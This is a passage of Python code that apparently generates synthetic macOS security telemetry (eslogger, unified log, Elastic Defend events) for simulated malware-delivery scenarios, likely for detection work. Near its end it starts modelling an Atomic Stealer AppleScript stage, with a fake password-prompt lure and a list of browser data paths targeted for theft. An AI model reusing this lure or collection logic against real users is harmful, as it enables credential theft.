            "f_bfree": blocks // 9, "f_bavail": blocks // 9, "f_files": blocks // 3 if fstype == "hfs" else 8_412,
            "f_ffree": blocks // 3 - 88 if fstype == "hfs" else 8_120, "f_fsid": fsid, "f_owner": owner,
            "f_type": type_numbers[fstype], "f_flags": flags, "f_fssubtype": 1 if fstype == "hfs" else 0,
            "f_flags_ext": 0, "f_fstypename": fstype, "f_mntonname": on, "f_mntfromname": source,
        }}
        if self.os.es_version >= 8:
            payload["disposition"] = disposition
        self.es(t, img, "mount", payload)

    def gk_override(self, t: int, syspolicyd: Image, path: str, node: Inode, binary: Binary | None,
                    sha256: str | None = None) -> None:
        signing = None if binary is None else {"cdhash": binary.cdhash, "signing_id": binary.signing_id,
                                               "team_id": binary.team_id}
        self.es(t, syspolicyd, "gatekeeper_user_override", {"file_type": 1, "file": file_obj(path, node),
                                                           "sha256": sha256, "signing_info": signing})

    # -- unified log -----------------------------------------------------------------------------------------------

    def local(self, t: int) -> str:
        seconds, fraction = divmod(t, NS)
        moment = datetime.fromtimestamp(seconds, tz=self.tz)
        return moment.strftime("%Y-%m-%d %H:%M:%S") + f".{fraction // 1000:06d}" + moment.strftime("%z")

    def ul(self, t: int, source: str, message: str, fmt: str, *, pid: int | None = None, etype: str = "logEvent",
           mtype: str = "Default", pc: int = 0, subsystem: str | None = None, category: str | None = None,
           image: str | None = None) -> None:
        if not self.unified:
            return
        path, sender, sender_key, sub, cat, user_id, pc_base = UL_SOURCES[source]
        path = image or path
        known = _UL_15.get((path, sender_key)) if not self.os.build_salt else None
        proc_uuid, sender_uuid = known or (huuid("img", self.os.build_salt, path),
                                           huuid("img", self.os.build_salt, sender))
        if sender == path:
            sender_uuid = proc_uuid
        the_pid = pid if pid is not None else self.ul_pids[path]
        counter = len(self.ul_records)
        record: dict[str, Any] = {
            "timezoneName": "", "messageType": mtype, "eventType": etype, "source": None, "formatString": fmt,
            "userID": user_id, "activityIdentifier": 0, "subsystem": sub if subsystem is None else subsystem,
            "category": cat if category is None else category,
            "threadID": 2_000 + hnum(self.name, "thread", path) % 60_000,
            "senderImageUUID": sender_uuid,
            "backtrace": {"frames": [{"imageOffset": pc_base + pc, "imageUUID": sender_uuid}]},
            "bootUUID": self.boot_uuid, "processImagePath": path, "senderImagePath": sender,
            "timestamp": self.local(t), "machTimestamp": self.mach(t), "eventMessage": message,
            "processImageUUID": proc_uuid, "traceID": hnum(self.name, "trace", counter, message),
            "processID": the_pid, "senderProgramCounter": pc_base + pc, "parentActivityIdentifier": 0,
        }
        if etype == "activityCreateEvent":
            del record["messageType"]
            record["activityIdentifier"] = 3_000_000 + hnum(self.name, "act", counter) % 900_000
            record["creatorActivityID"] = 0
        self.ul_records.append((t, counter, record))

    def ul_launch(self, fork_at: int, exec_at: int, job: str, bundle_id: str, pid: int, exe: str,
                  app_url: str | None) -> None:
        self.ul(fork_at - 11_904_000, "runningboardd",
                f"Launch request for app<{job}(501)>[0] is using uid 501 (divined from auid 501 euid 501)",
                "Launch request for %{public}@ is using uid %d (divined from auid %d euid %d)")
        self.ul(fork_at - 6_120_000, "runningboardd",
                f"Checking PreventLaunch: global:0 exPath:{exe} predicates:(null) allow:(null)",
                "Checking PreventLaunch: global:%d exPath:%{public}@ predicates:%{public}@ allow:%{public}@", pc=3_112)
        self.ul(exec_at + 3_331_000, "runningboardd", f"Now tracking process: [app<{job}(501)>:{pid}]",
                "Now tracking process: %{public}@", pc=7_668)
        self.asn += 0x1001 + hnum(self.name, "asn", pid) % 0x3000
        self.ul(exec_at + 16_498_000, "csuia-ls",
                f"LAUNCH: 0x0-0x{self.asn:x} {bundle_id} starting stopped process.",
                "LAUNCH: %s %s starting stopped process.")
        if app_url:
            self.ul(exec_at + 302_880_000, "loginwindow",
                    f"-[Application updateInformation] | Got App URL: file://{url_quote(app_url)}/",
                    "%{public}s | Got App URL: %{public}@")

    def ul_click(self, t: int) -> None:
        self.ul(t, "finder", "sendAction:", "sendAction:", etype="activityCreateEvent")

    def ul_translocate(self, t: int, path: str) -> None:
        self.ul(t, "lsd", f"SecTranslocateCreateSecureDirectoryForURL: created {path}",
                "SecTranslocateCreateSecureDirectoryForURL: created %{public}@")

    def ul_scan(self, t: int, url_path: str, team: str | None, ident: str, bundle_id: str | None, result: int,
                *, prompt: tuple[int, int] | None = None) -> int:
        pst = (f"PST: (path: {hnum(self.name, url_path) & 0xFFFFFFFFFFFFFFFF:016x}), (team: {team or '(null)'}), "
               f"(id: {ident}), (bundle_id: {bundle_id or '(null)'})")
        self.ul(t, "syspolicyd", "GK performScan", "GK performScan")
        t += 693_000_000 + hnum(self.name, "scan", url_path) % 400_000_000
        xp = -(hnum(self.name, "xp", url_path) % 9_000_000_000_000_000_000)
        stamp = datetime.fromtimestamp(t // NS, tz=UTC).strftime("%Y-%m-%d %H:%M:%S +0000")
        self.ul(t, "syspolicyd", f"GK Xprotect results: {pst}, XPScan: 0,{xp},{stamp},(null),file://"
                f"{url_quote(url_path)}/", "GK Xprotect results: %{public}@,%{public}@", pc=584)
        self.ul(t + 1_547_000, "syspolicyd", f"GK scan complete: {pst}", "GK scan complete: %{public}@", pc=916)
        self.ul(t + 4_108_000, "syspolicyd", f"GK evaluateScanResult: {result}, {pst}, 0, 0, 1, 0, 9, 4, 1",
                "GK evaluateScanResult: %d, %{public}@, %d, %d, %d, %d, %d, %d, %d", pc=3_236)
        if prompt is not None:
            self.ul(t + 6_731_000, "syspolicyd", f"Prompt shown ({prompt[0]}, {prompt[1]}), waiting for response",
                    "Prompt shown (%d, %d), waiting for response", pc=4_388)
            self.ul(t + 74_470_000, "csuia", "present code-evaluation prompt", "present code-evaluation prompt")
        return t + 6_731_000

    def ul_cleared(self, t: int) -> None:
        self.ul(t, "syspolicyd", "Cleared Gatekeeper rejection record sucessfully",
                "Cleared Gatekeeper rejection record sucessfully", pc=7_480)

    def ul_denied(self, t: int, pid: int, path: str) -> None:
        self.ul(t, "kernel-asp", f"ASP: Security policy would not allow process: {pid}, {path}",
                "ASP: Security policy would not allow process: %d, %s")

    def ul_da(self, t: int, dev: str, fstype: str) -> None:
        self.ul(t, "diskarbitrationd", f"  probed disk, id = {dev}, with {fstype}, success.",
                "  probed disk, id = %@, with %@, %s.")
        self.ul(t + 41_220_000, "diskarbitrationd", f"  mounted disk, id = {dev}, ongoing.",
                "  mounted disk, id = %@, ongoing.", pc=1_204)

    # -- Elastic Defend --------------------------------------------------------------------------------------------

    def entity(self, key: tuple[int, int]) -> str:
        start = self.anc[key][0]
        seconds, nanos = divmod(start, NS)
        raw = f"{self.agent_id}-{key[0]}-{seconds + EPOCH_1601_OFFSET_S}.{nanos}"
        return base64.b64encode(raw.encode()).decode()

    def ancestry(self, key: tuple[int, int]) -> list[str]:
        chain = []
        parent = self.anc[key][1]
        while parent is not None and len(chain) < 30:
            chain.append(self.entity(parent))
            parent = self.anc.get(parent, (0, None))[1]
        return chain

    def connect(self, t: int, img: Image, ip: str, port: int, *, domain: str | None = None,
                args: list[str] | None = None,
                action: str = "connection_attempted", transport: str = "tcp", sent: int | None = None,
                received: int | None = None) -> None:
        key = (img.pid, img.pidversion)
        ancestry = self.ancestry(key)
        destination: dict[str, Any] = {"address": ip, "ip": ip, "port": port}
        if domain:
            destination["domain"] = domain
        if received is not None:
            destination["bytes"] = received
        sport = 49_152 + hnum(self.name, "sport", img.pid, ip, port, t) % 16_000
        source: dict[str, Any] = {"address": self.ip, "ip": self.ip, "port": sport}
        if sent is not None:
            source["bytes"] = sent
        counter = len(self.ecs_docs)
        stamp = iso_ns(t).replace("000Z", "Z") if t % 1000 == 0 else iso_ns(t)
        doc: dict[str, Any] = {
            "@timestamp": stamp,
            "agent": {"id": self.agent_id, "type": "endpoint", "version": self.agent_version},
            "data_stream": {"dataset": "endpoint.events.network", "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "elastic": {"agent": {"id": self.agent_id}},
            "event": {"action": action, "category": ["network"], "created": stamp,
                      "dataset": "endpoint.events.network",
                      "id": "Nd" + base64.b64encode(_digest(self.name, "evt", counter)[:16]).decode()[:22],
                      "kind": "event", "module": "endpoint", "outcome": "unknown",
                      "sequence": 1_204_000 + hnum(self.name, "seqbase") % 800_000 + counter * 37,
                      "type": ["start" if action == "connection_attempted" else "end"]},
            "group": {"Ext": {"real": {"id": 20, "name": "staff"}}, "id": 20, "name": "staff"},
            "host": self.ecs_host(),
            "message": "Endpoint network event",
            "user": ({"Ext": {"real": {"id": 501, "name": self.user}}, "id": 501, "name": self.user}
                     if img.cred.euid else {"Ext": {"real": {"id": 0, "name": "root"}}, "id": 0, "name": "root"}),
            "destination": destination,
            "source": source,
            "network": {"direction": "egress", "transport": transport, "type": "ipv6" if ":" in ip else "ipv4"},
            "process": {
                "Ext": {"ancestry": ancestry},
                "code_signature": ecs_signature(img.binary),
                "command_line": " ".join(args) if args else img.binary.path,
                "entity_id": self.entity(key),
                "executable": img.binary.path,
                "name": img.binary.path.rsplit("/", 1)[-1],
                "parent": {"entity_id": ancestry[0]} if ancestry else {},
                "pid": img.pid,
            },
        }
        self.ecs_docs.append((t, counter, doc))

    def ecs_host(self) -> dict[str, Any]:
        return {
            "architecture": "arm64", "hostname": self.name, "id": self.host_id,
            "ip": ["127.0.0.1", "::1", self.ip, "fe80::1"], "mac": [self.mac], "name": self.name,
            "os": {"Ext": {"variant": "macOS"}, "family": "macos", "full": self.os.full, "kernel": self.os.kernel,
                   "name": "macOS", "platform": "macos", "type": "macos", "version": self.os.version},
        }

    # -- output ----------------------------------------------------------------------------------------------------

    def eslogger_bytes(self) -> bytes:
        lines = []
        seq: dict[str, int] = {}
        global_seq = 40_000 + hnum(self.name, "gseq") % 400_000
        for t, _, name, process, payload in sorted(self.es_records, key=lambda r: (r[0], r[1])):
            n = seq.get(name, 500 + hnum(self.name, "seq", name) % 20_000)
            seq[name] = n + 1
            global_seq += 1 + hnum(self.name, "gap", global_seq) % 3  # other event types the client drops
            record = {
                "schema_version": 1, "version": self.os.es_version, "time": iso_ns(t), "mach_time": self.mach(t),
                "event_type": ES_TYPES[name], "action_type": 1,
                "action": {"result": {"result": {"auth": 0}, "result_type": 0}},
                "seq_num": n, "global_seq_num": global_seq,
                "thread": {"thread_id": 100_000 + hnum(self.name, "thread", process["executable"]["path"],
                                                       str(process["audit_token"])) % 8_900_000},
                "process": process, "event": {name: payload},
            }
            text = orjson.dumps(scramble(record, f"{self.name}/{global_seq}"))
            lines.append(text.replace(b"/", b"\\/") + b"\n")
        return b"".join(lines)

    def unified_bytes(self) -> bytes:
        out = []
        records = sorted(self.ul_records, key=lambda r: (r[0], r[1]))
        for _, _, record in records:
            out.append(orjson.dumps(record).replace(b"/", b"\\/") + b"\n")
        out.append(orjson.dumps({"count": len(records), "finished": 1}) + b"\n")
        return b"".join(out)

    def ecs_bytes(self) -> bytes:
        return b"".join(orjson.dumps(doc) + b"\n" for _, _, doc in sorted(self.ecs_docs, key=lambda r: (r[0], r[1])))


def parse_utc(text: str) -> int:
    """``YYYY-MM-DDTHH:MM:SS[.fffffffff]`` (UTC) in nanoseconds since the epoch."""
    whole, _, fraction = text.partition(".")
    return int(datetime.fromisoformat(whole + "+00:00").timestamp()) * NS + int(fraction.ljust(9, "0")[:9])


def url_quote(path: str) -> str:
    from urllib.parse import quote

    return quote(path, safe="/:@!$&'()*+,;=-._~")


def validation_category(binary: Binary) -> int:
    if binary.platform:
        return 1
    if binary.flags & 0x2:  # CS_ADHOC
        return 10
    return 6


def ecs_signature(binary: Binary) -> dict[str, Any]:
    if binary.platform:
        return {"exists": True, "signing_id": binary.signing_id, "status": "trusted",
                "subject_name": "Software Signing", "trusted": True}
    if binary.flags & 0x2:
        return {"exists": True, "signing_id": binary.signing_id, "status": "errorCode", "trusted": False}
    return {"exists": True, "signing_id": binary.signing_id, "status": "trusted",
            "subject_name": f"Developer ID Application: {TEAM_NAMES.get(binary.team_id or '', 'Unknown')} "
                            f"({binary.team_id})", "team_id": binary.team_id, "trusted": True}


TEAM_NAMES = {
    "EQHXZ8M8AV": "Google LLC", "UBF8T346G9": "Microsoft Corporation", "43AQ936H96": "Mozilla Corporation",
    "6N38VWS5BX": "Telegram FZ-LLC", "BQR82RBBHL": "Slack Technologies, Inc.",
    "BJ4HAAB9B3": "Zoom Video Communications, Inc.",
    "68UA947AUU": "Stichting Blender Foundation", "DJ3H93M7VJ": "Python Software Foundation",
    "2ZEFAR8TH3": "JetBrains s.r.o.",
}


# -- delivery building blocks ---------------------------------------------------------------------------------------

MS = 1_000_000
S = NS


@dataclass
class Daemons:
    """The long-running processes a story needs as instigators (and whose pids the unified log carries)."""

    syspolicyd: Image
    lsd: Image
    diskarbitrationd: Image
    diskimagesiod: Image
    finder: Image
    runningboardd: int
    csuia: int
    loginwindow: int


def daemons(h: Host) -> Daemons:
    boot = h.boot_ns
    d = Daemons(
        syspolicyd=h.running(SYSPOLICYD, pid=350 + hnum(h.name, "spd") % 40, start=boot + 9_511_004_000,
                             cred=ROOT_CRED),
        lsd=h.running(LSD, pid=540 + hnum(h.name, "lsd") % 60, start=boot + 41_880_112_000),
        diskarbitrationd=h.running(DISKARBITRATIOND, pid=110 + hnum(h.name, "da") % 30, start=boot + 4_120_880_000,
                                   cred=ROOT_CRED),
        diskimagesiod=h.running(DISKIMAGESIOD, pid=702 + hnum(h.name, "dio") % 80, start=boot + 88_402_200_000,
                                cred=ROOT_CRED),
        finder=h.running(FINDER, pid=610 + hnum(h.name, "finder") % 50, start=boot + 44_210_007_000),
        runningboardd=160 + hnum(h.name, "rbd") % 12,
        csuia=520 + hnum(h.name, "csuia") % 20,
        loginwindow=395 + hnum(h.name, "lw") % 15,
    )
    h.ul_pids[UL_SOURCES["runningboardd"][0]] = d.runningboardd
    h.ul_pids[UL_SOURCES["csuia"][0]] = d.csuia
    h.ul_pids[UL_SOURCES["loginwindow"][0]] = d.loginwindow
    return d


def malware(path: str, signing_id: str, size: int, *, team: str | None = None, flags: int = FLAGS_ADHOC_LINKER,
            dev: int = DEV_DATA, ino: int, built: str = "2026-02-24T03:12:09.000000000Z",
            subtype: int = SUBTYPE_ARM64) -> Binary:
    node = Inode(ino=ino, size=size, mode=0o100755, uid=501, gid=20, dev=dev, birth=built, modified=built,
                 changed=built, accessed=built)
    return Binary(path, signing_id, node, team_id=team, platform=False, flags=flags, subtype=subtype)


def chrome_like_download(h: Host, writer: Image, name: str, size: int, start: int, done: int,
                         folder: str | None = None, quarantine: bool = True) -> tuple[str, Inode]:
    """Chromium (Chrome, Edge, Electron apps): ``name.crdownload`` written by the browser process, renamed into
    place, then annotated (where-froms and quarantine) by the same process."""
    folder = folder or h.downloads
    part = f"{folder}/{name}.crdownload"
    node = h.node(start)
    h.create(start, writer, part, node)
    done_node = replace(node, size=size, modified=iso_ns(done), changed=iso_ns(done))
    h.close(done, writer, part, done_node)
    final = f"{folder}/{name}"
    h.rename(done + 2_118_000, writer, part, done_node, final, h.dnode(done, 14, ino=380_000 + hnum(folder) % 9_000))
    if quarantine:
        h.setxattr(done + 3_004_000, writer, final, done_node, "com.apple.metadata:kMDItemWhereFroms")
        h.setxattr(done + 3_377_000, writer, final, done_node, "com.apple.quarantine")
    return final, done_node


def firefox_download(h: Host, firefox: Image, name: str, size: int, start: int, done: int) -> tuple[str, Inode]:
    """Firefox: an empty placeholder with the final name, the data in ``name.part``, the ``.part`` renamed over the
    placeholder, then the quarantine and where-froms set by firefox itself."""
    final = f"{h.downloads}/{name}"
    placeholder = h.node(start)
    h.create(start, firefox, final, placeholder)
    h.close(start + 402_000, firefox, final, placeholder)
    part = f"{final}.part"
    node = h.node(start + 1_211_000)
    h.create(start + 1_211_000, firefox, part, node)
    done_node = replace(node, size=size, modified=iso_ns(done), changed=iso_ns(done))
    h.close(done, firefox, part, done_node)
    h.rename(done + 1_408_000, firefox, part, done_node, final, h.dnode(done, 11), existing=placeholder)
    h.setxattr(done + 2_960_000, firefox, final, done_node, "com.apple.quarantine")
    h.setxattr(done + 3_113_000, firefox, final, done_node, "com.apple.metadata:kMDItemWhereFroms")
    return final, done_node


def safari_download(h: Host, networking: Image, name: str, size: int, start: int, done: int) -> tuple[str, Inode]:
    """Safari: WebKit's Networking process writes ``name.download/`` (an Info.plist and the data), moves the file
    out of the bundle, quarantines it and removes the bundle."""
    bundle = f"{h.downloads}/{name}.download"
    bundle_node = h.dnode(start)
    h.create(start, networking, bundle, bundle_node)
    plist = h.node(start + 889_000)
    h.create(start + 889_000, networking, f"{bundle}/Info.plist", plist)
    h.close(start + 2_337_000, networking, f"{bundle}/Info.plist", replace(plist, size=512))
    data = h.node(start + 4_763_000)
    h.create(start + 4_763_000, networking, f"{bundle}/{name}", data)
    data = replace(data, size=size, modified=iso_ns(done), changed=iso_ns(done))
    h.close(done, networking, f"{bundle}/{name}", data)
    final = f"{h.downloads}/{name}"
    h.rename(done + 8_233_000, networking, f"{bundle}/{name}", data, final, h.dnode(done, 19))
    h.setxattr(done + 8_892_000, networking, final, data, "com.apple.metadata:kMDItemWhereFroms")
    h.setxattr(done + 9_311_000, networking, final, data, "com.apple.quarantine")
    h.unlink(done + 11_708_000, networking, f"{bundle}/Info.plist", replace(plist, size=512),
             replace(bundle_node, size=96, nlink=3))
    h.unlink(done + 12_201_000, networking, bundle, bundle_node, h.dnode(done, 19))
    return final, data


@dataclass
class Volume:
    path: str
    dev: int
    device: str
    mounted_at: int


def mount_dmg(h: Host, d: Daemons, t: int, dmg: str, dmg_node: Inode, volume: str, *, fstype: str = "hfs",
              disk: str = "disk4", blocks: int = 41_216, click: bool = True) -> Volume:
    """The user double-clicks the disk image: DiskImageMounter attaches it (diskimagesiod reads it) and
    diskarbitrationd mounts the volume read-only and quarantined through mount(8)."""
    if click:
        h.ul_click(t)
    mounter = h.launch(t + 181_000_000, DISKIMAGEMOUNTER, bundle_id="com.apple.DiskImageMounter",
                       args=[DISKIMAGEMOUNTER.path])
    opened = t + 224_000_000
    h.open(opened, mounter, dmg, dmg_node)
    h.open(opened + 19_880_000, d.diskimagesiod, dmg, dmg_node)
    device = f"/dev/{disk}s1"
    on = f"/Volumes/{volume}"
    at = opened + 611_402_000
    opts = "nodev,noowners,nosuid,quarantine,rdonly,-m=755" if fstype == "hfs" else "nodev,nosuid,quarantine,rdonly"
    mount = h.spawn(at, d.diskarbitrationd, MOUNT, ["/sbin/mount", "-t", fstype, "-o", opts, device, on],
                    cred=ROOT_CRED)
    helper = MOUNT_HFS if fstype == "hfs" else MOUNT_APFS
    sub = h.spawn(at + 3_010_000, mount, helper,
                  [helper.path.rsplit("/", 1)[-1], "-o", "nodev", "-o", "nosuid", "-o", "quarantine", "-o", "rdonly",
                   device, on])
    mounted = at + 41_552_000
    # MNT_RDONLY|MNT_NOSUID|MNT_NODEV|MNT_QUARANTINE|MNT_LOCAL|MNT_DOVOLFS|MNT_IGNORE_OWNERSHIP(|MNT_JOURNALED)
    flags = 0x1 | 0x8 | 0x10 | 0x400 | 0x1000 | 0x8000 | (0x200000 | 0x800000 if fstype == "hfs" else 0)
    h.mount(mounted, sub, fstype=fstype, on=on, source=device, disposition=3, blocks=blocks, flags=flags)
    h.ul_da(at - 38_000_000, device, fstype)
    h.exit(mounted + 2_004_000, sub)
    h.exit(mounted + 2_911_000, mount)
    h.exit(mounted + 1_890_000_000, mounter)
    return Volume(on, 16_777_240 + hnum(h.name, "voldev", volume) % 30, device, mounted)


@dataclass
class Opened:
    app: Image
    run_path: str  # the .app path the process runs from (translocated or not)
    override_at: int | None


def open_app(h: Host, d: Daemons, t: int, *, app_path: str, exe_name: str, bundle_id: str,
             binary_of: Callable[[str, int], Binary], app_node: Inode, flow: str, translocate: bool,
             team: str | None = None, es_override: bool = True, settings_delay: int = 21 * S,
             pid: int | None = None, record_launch: bool = True, script: Inode | None = None) -> Opened:
    """The user opens ``app_path`` in Finder.

    ``flow``: ``"blocked"`` (macOS 15+: an unsigned or unnotarized app is refused, the user clicks "Open Anyway" in
    System Settings > Privacy & Security, opens it again and confirms), ``"prompt"`` (a notarized app's first
    launch: "... is an app downloaded from the Internet. Are you sure you want to open it?"), ``"none"``.
    ``binary_of(run_path, dev)`` builds the main executable's image at the path it runs from.
    """
    name = app_path.rsplit("/", 1)[-1]
    h.ul_click(t)
    run_path = app_path
    dev = app_node.dev
    if translocate:
        uuid = huuid(h.name, "translocation", app_path)
        mount_on = f"{h.ptmp}/AppTranslocation/{uuid}/d"
        run_path = f"{mount_on}/{name}"
        h.mount(t + 39_104_000, d.lsd, fstype="nullfs", on=mount_on, source=app_path.rsplit("/", 1)[0],
                disposition=4, blocks=app_node.size // 4096 + 2_048, flags=0x1 | 0x8 | 0x10 | 0x1000 | 0x100000)
        h.ul_translocate(t + 41_355_000, run_path)
        dev = DEV_TRANSLOCATION
    binary = binary_of(f"{run_path}/Contents/MacOS/{exe_name}", dev)
    ident = bundle_id if script is not None else binary.signing_id
    scan_at = t + 91_714_000
    override_at = None
    if flow == "blocked":
        shown = h.ul_scan(scan_at, app_path, team, ident, bundle_id, 3, prompt=(1, 0))
        # LaunchServices asks launchd for the job anyway; the exec is refused (no NOTIFY exec is emitted).
        job = job_of(bundle_id, h.name)
        refused = h.fork(shown + 14_220_000, h.launchd)
        refused = replace(refused, group_id=refused.pid, session_id=1)
        proxy = h.exec(shown + 15_020_000, refused, XPCPROXY, ["xpcproxy", job], env=[], self_responsible=True)
        h.ul_denied(shown + 19_870_000, refused.pid, binary.path)
        h.exit(shown + 21_113_000, replace(proxy, cred=h.cred), signal=9)
        settings_at = shown + settings_delay
        settings = h.launch(settings_at, SETTINGS, bundle_id="com.apple.systempreferences",
                            app_url="/System/Applications/System Settings.app")
        override_at = settings_at + 17 * S + 406_118_000
        if es_override:
            h.gk_override(override_at, d.syspolicyd, app_path, app_node, binary)
        h.ul_cleared(override_at + 5_802_000)
        h.exit(override_at + 2 * S + 99_000_000, settings)
        again = override_at + 4 * S + 210_000_000
        h.ul_click(again)
        shown = h.ul_scan(again + 60_118_000, app_path, team, ident, bundle_id, 0, prompt=(6, 0))
        launch_at = shown + 2 * S + 881_004_000
    elif flow == "prompt":
        shown = h.ul_scan(scan_at, app_path, team, ident, bundle_id, 0, prompt=(6, 0))
        launch_at = shown + 1 * S + 733_209_000
    else:
        launch_at = scan_at
    if script is not None:  # the main executable is a #! script: the kernel runs its interpreter
        exe = f"{run_path}/Contents/MacOS/{exe_name}"
        app = h.launch(launch_at, BASH, bundle_id=bundle_id, pid=pid, app_url=run_path, log=record_launch,
                       args=["/bin/bash", exe], script=(exe, replace(script, dev=dev)))
    else:
        app = h.launch(launch_at, binary, bundle_id=bundle_id, pid=pid, app_url=run_path, log=record_launch)
    return Opened(app, run_path, override_at)


def copy_bundle(h: Host, t: int, copier: Image, src_app: str, dst_app: str, files: list[tuple[str, int]],
                quarantine: bool = True) -> dict[str, Inode]:
    """Finder copies an app bundle (another volume: create, data, close and the copied xattrs per item)."""
    nodes: dict[str, Inode] = {}
    dirs = sorted({f"{dst_app}/{rel}".rsplit("/", 1)[0] for rel, _ in files} | {dst_app},
                  key=lambda p: (len(p), p))
    step = 0
    for folder in dirs:
        node = h.dnode(t + step, 2, uid=501)
        h.create(t + step, copier, folder, node)
        if quarantine:
            h.setxattr(t + step + 311_000, copier, folder, node)
        nodes[folder] = node
        step += 1_207_000
    for rel, size in files:
        path = f"{dst_app}/{rel}"
        node = h.node(t + step, 0, mode=0o100755 if "/MacOS/" in path else 0o100644)
        h.create(t + step, copier, path, node)
        done = t + step + 3_000_000 + size // 180
        node = replace(node, size=size, modified=iso_ns(done), changed=iso_ns(done))
        h.close(done, copier, path, node)
        if quarantine:
            h.setxattr(done + 402_000, copier, path, node)
        nodes[path] = node
        step = done - t + 1_104_000
    return nodes


def sh_c(h: Host, t: int, parent: Image, command: str, final: Binary | None = None,
         final_args: list[str] | None = None, *, argv0: str = "/bin/sh", env: list[str] | None = None,
         cwd: str = "/", pid: int | None = None) -> Image:
    """``system()`` / ``do shell script``: ``/bin/sh -c command`` (the sh shim re-execs bash, and bash execs a lone
    simple command in place). Returns the last image of the forked pid."""
    child = h.fork(t, parent, pid=pid)
    args = [argv0, "-c", command]
    sh = h.exec(t + 1_411_000, child, SH, args, env=env, cwd=cwd)
    bash = h.exec(t + 2_870_000, sh, BASH, args, env=env, cwd=cwd)
    if final is None:
        return bash
    return h.exec(t + 4_702_000, bash, final, final_args or [final.path], env=env, cwd=cwd)


def run_sh(h: Host, t: int, parent: Image, command: str, final: Binary, final_args: list[str], *, runs: int = 40 * MS,
           status: int = 0, env: list[str] | None = None) -> tuple[Image, int]:
    """``sh -c`` of one simple command that runs for ``runs`` ns and exits; returns its image and the exit time."""
    img = sh_c(h, t, parent, command, final, final_args, env=env)
    end = t + 4_702_000 + runs
    h.exit(end, img, status)
    return img, end


def noise_mdworker(h: Host, t: int) -> None:
    worker = h.launch(t, MDWORKER_SHARED, args=[MDWORKER_SHARED.path, "-s", "mdworker", "-c", "MDSImporterWorker",
                                                "-m", "com.apple.mdworker.shared"], job="com.apple.mdworker.shared")
    h.exit(t + 31 * S + 402_118_000, worker)


def noise_webcontent(h: Host, t: int, safari: Image) -> Image:
    return h.launch(t, WEBCONTENT, responsible=safari, job="com.apple.WebKit.WebContent")


def chrome_profile_noise(h: Host, t: int, chrome: Image, profile: str = "Google/Chrome") -> None:
    """Chrome keeps writing its profile in ~/Library (History, cookies): app writes in a watched path all day."""
    base = f"{h.home}/Library/Application Support/{profile}/Default"
    for i, leaf in enumerate(("History-journal", "Cookies-journal")):
        node = h.node(t + i * 611_000_000)
        h.create(t + i * 611_000_000, chrome, f"{base}/{leaf}", node)
        h.close(t + i * 611_000_000 + 3_870_000, chrome, f"{base}/{leaf}", replace(node, size=8_720 + i * 512))
        h.unlink(t + i * 611_000_000 + 9_118_000, chrome, f"{base}/{leaf}", replace(node, size=8_720 + i * 512),
                 h.dnode(t, 61, ino=2_100_000 + hnum(base) % 100_000))


def chromium_helpers(h: Host, t: int, browser: Image, helper: Binary, renderer: Binary, *,
                     framework: str, version: str) -> tuple[Image, Image]:
    """A Chromium browser's network-service utility helper and one renderer, both forked by the browser."""
    common = [f"--user-data-dir={h.home}/Library/Application Support/{framework}", "--lang=en-US",
              f"--metrics-client-id={huuid(h.name, framework).lower()}", "--shared-files",
              f"--seatbelt-client={31 + hnum(h.name) % 40}"]
    net = h.spawn(t, browser, helper, [helper.path.rsplit("/", 1)[-1], "--type=utility",
                                       "--utility-sub-type=network.mojom.NetworkService", *common])
    ren = h.spawn(t + 188_000_000, browser, renderer, [renderer.path.rsplit("/", 1)[-1], "--type=renderer",
                                                       f"--renderer-client-id={7 + hnum(h.name) % 20}",
                                                       "--time-ticks-at-unix-epoch=-1772390511098452", *common])
    return net, ren


def user_tty(h: Host, t: int, tty: str = "/dev/ttys000") -> dict[str, Any]:
    when = iso_ns(t)
    return file_obj(tty, Inode(ino=1_219 + hnum(tty) % 40, size=0, mode=0o020620, gid=4, dev=1_333_267_060,
                               rdev=268_435_456 + int(tty[-3:]), blksize=65_536,
                               birth="1970-01-01T00:00:00.000000000Z", modified=when, changed=when, accessed=when))


TTY_FDS = [{"fdtype": 1, "fd": 0}, {"fdtype": 1, "fd": 1}, {"fdtype": 1, "fd": 2}]


def setuid_root(h: Host) -> Cred:
    """A setuid-root binary run by the user: euid 0, the rest unchanged."""
    return replace(h.cred, euid=0)


def sudo_root(h: Host) -> Cred:
    """What sudo's child runs as: root, the audit user id still the user's."""
    return Cred(auid=501, euid=0, egid=0, ruid=0, rgid=0, asid=h.asid)


def terminal_shell(h: Host, t: int, terminal: Image, tty: dict[str, Any]) -> Image:
    """Terminal opens a window: login -pf <user> (setuid root) -> the user's login zsh on a new tty."""
    login_fork = h.fork(t, terminal)
    login_fork = replace(login_fork, group_id=login_fork.pid, session_id=login_fork.pid, tty=tty)
    env = ["TERM_PROGRAM=Apple_Terminal", "TERM=xterm-256color", "SHELL=/bin/zsh", f"TMPDIR={h.tmpdir}",
           "TERM_PROGRAM_VERSION=455.1", f"TERM_SESSION_ID={huuid(h.name, 'term')}", f"USER={h.user}",
           "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "__CFBundleIdentifier=com.apple.Terminal", "XPC_FLAGS=0x0",
           "XPC_SERVICE_NAME=0", "LANG=en_US.UTF-8", "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0"]
    login = h.exec(t + 2_904_000, login_fork, LOGIN, ["login", "-pf", h.user], env=env, cwd=h.home,
                   cred=replace(h.cred, euid=0), fds=TTY_FDS)
    shell_fork = h.fork(t + 18_330_000, login)
    zsh = h.exec(t + 20_118_000, shell_fork, ZSH, ["-zsh"], env=[*env, f"HOME={h.home}", f"LOGNAME={h.user}"],
                 cwd=h.home, cred=h.cred, fds=TTY_FDS)
    return zsh


# -- AMOS / Atomic Stealer: the AppleScript stage -------------------------------------------------------------------

NOHUP = apple("/usr/bin/nohup", "com.apple.nohup", 883_001, 100_688)
SLEEP = apple("/bin/sleep", "com.apple.sleep", 879_977, 100_592)

AMOS_PROMPT = ("Required Application Helper. Please enter device password to continue.")


def amos_script(prompt: str, title: str, c2: str, route: str, build: str, pad_to: int = 0) -> str:
    """The AppleScript an AMOS build decodes and hands to ``osascript -e`` (shape of the public de-obfuscations:
    helper functions, a password loop checked with dscl, browser/wallet/notes/keychain collection, ditto, curl)."""
    browsers = ['"Chrome", profile & "/Library/Application Support/Google/Chrome/"',
                '"Brave", profile & "/Library/Application Support/BraveSoftware/Brave-Browser/"',
                '"Edge", profile & "/Library/Application Support/Microsoft Edge/"',
                '"Vivaldi", profile & "/Library/Application Support/Vivaldi/"',
